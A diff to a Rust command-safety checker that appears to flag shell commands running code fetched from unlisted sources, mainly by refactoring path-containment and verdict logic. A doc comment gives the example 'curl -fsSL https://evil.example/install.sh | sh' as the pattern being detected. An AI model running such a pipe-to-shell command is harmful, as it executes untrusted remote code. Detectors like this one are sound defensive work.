@@ -13,6 +13,7 @@
 //! **Example:** `curl -fsSL https://evil.example/install.sh | sh` → `curl_pipe_shell`.
 
 use crate::net;
+use crate::paths;
 use crate::shell::{ShellIssue, is_interpreter, is_network_fetcher, is_shell};
 use crate::verdict::{Finding, Reason, Verdict};
 
@@ -1668,7 +1669,7 @@ pub fn check(cx: &Ctx<'_>, out: &mut Vec<Finding>) {
         .chain(cx.session.downloads.iter().map(|(p, l)| (p.clone(), *l)))
         .collect();
     let listed_verdict = Auth;
-    let verdict_for = |path: &str| {
+    let downloaded_verdict = |path: &str| {
         downloaded
             .iter()
             .filter(|(p, _)| p == path)
@@ -1716,15 +1717,9 @@ pub fn check(cx: &Ctx<'_>, out: &mut Vec<Finding>) {
     // fetched code. A folder fetched earlier from an unlisted source (a clone, an unpacked
     // archive) is asked about when something in it runs.
     let unpacked = unpacked_downloads(sa, cx.fx, cx.policy, &downloaded, cx.cwd());
-    let under = |path: &str, dir: &str| {
-        path.strip_prefix(dir)
-            .is_some_and(|r| r.starts_with('/') && dir.len() > 1)
-    };
+    // Strictly inside a folder that is not the root.
+    let under = |path: &str, dir: &str| path != dir && dir.len() > 1 && paths::within(path, dir);
     let verdict_for = |path: &str| {
-        // (A bare program name is looked up on `PATH`, not in the folder: no path.)
-        if path.is_empty() {
-            return None;
-        }
         // (A release unpacked from a listed host, `github.com`, is as a clone from there.)
         let in_line = unpacked
             .iter()
@@ -1736,7 +1731,7 @@ pub fn check(cx: &Ctx<'_>, out: &mut Vec<Finding>) {
             .iter()
             .any(|(d, listed)| !listed && under(path, d))
             .then_some(Auth);
-        verdict_for(path).max(in_line).max(earlier)
+        downloaded_verdict(path).max(in_line).max(earlier)
     };
     if !downloaded.is_empty() || !unpacked.is_empty() {
         for inv in &sa.invocations {
@@ -1745,16 +1740,18 @@ pub fn check(cx: &Ctx<'_>, out: &mut Vec<Finding>) {
                 || inv.program == "source"
                 || inv.program == ".";
             let cwd = inv.cwd.as_deref().or(cx.cwd());
-            let target = if inv.command_word.text.contains('/') {
-                crate::paths::normalize(&inv.command_word.text, cwd, cx.home())
-            } else {
-                String::new()
-            };
+            // (A bare program name is looked up on `PATH`, not in the folder.)
+            let target = inv
+                .command_word
+                .text
+                .contains('/')
+                .then(|| crate::paths::normalize(&inv.command_word.text, cwd, cx.home()));
             let runs_file = inv
                 .operands()
                 .first()
                 .map(|w| crate::paths::normalize(&w.text, cwd, cx.home()));
-            let hit = verdict_for(&target)
+            let hit = target
+                .and_then(|t| verdict_for(&t))
                 .or_else(|| runs_file.filter(|_| runs).and_then(|f| verdict_for(&f)));
             if let Some(v) = hit {
                 out.push(Finding::new(CURL_PIPE_SHELL, v));
